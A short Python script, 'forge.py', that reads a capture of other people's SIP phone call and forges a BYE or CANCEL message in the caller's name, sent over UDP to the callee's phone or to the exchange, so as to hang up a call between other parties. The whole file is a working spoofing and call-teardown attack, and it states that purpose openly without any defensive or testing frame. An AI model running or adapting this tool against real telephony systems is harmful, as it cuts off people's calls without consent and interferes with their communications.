#!/usr/bin/env python3
"""Ends a call of others: forge.py bye|cancel CAPTURE OWN-ADDRESS CALLER CALLEE, with what CAPTURE shows of the call."""
import re
import socket
import sys

from overheard import header, last_answer, last_invite

kind, capture, own, caller, callee = sys.argv[1:]


def send(lines, target):
    sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sender.bind((own, 5090))
    sender.sendto("\r\n".join([*lines, "Max-Forwards: 70", "Content-Length: 0", "", ""]).encode(), target)


def bye():
    """A BYE in the caller's name, straight to the callee's phone."""
    answer = last_answer(capture, callee)
    contact = re.search(r"<(sip:[^>;]*)", header(answer, "Contact")).group(1)
    number = int(header(answer, "CSeq").split()[0])
    send([f"BYE {contact} SIP/2.0", f"Via: SIP/2.0/UDP {own}:5090;branch=z9hG4bKforged{number}",
          f"From: {header(answer, 'From')}", f"To: {header(answer, 'To')}", f"Call-ID: {header(answer, 'Call-ID')}",
          f"CSeq: {number + 1} BYE"], (callee, 5060))


def cancel():
    """A CANCEL in the caller's name to the exchange, which goes by the branch and Via alone (RFC 3261 §9.2)."""
    target, port, invite = last_invite(capture, caller)
    number = header(invite, "CSeq").split()[0]
    send([re.sub("^INVITE", "CANCEL", invite.split("\r\n")[0]), f"Via: {header(invite, 'Via')}", f"From: {header(invite, 'From')}",
          f"To: {header(invite, 'To')}", f"Call-ID: {header(invite, 'Call-ID')}", f"CSeq: {number} CANCEL"], (target, port))


{"bye": bye, "cancel": cancel}[kind]()
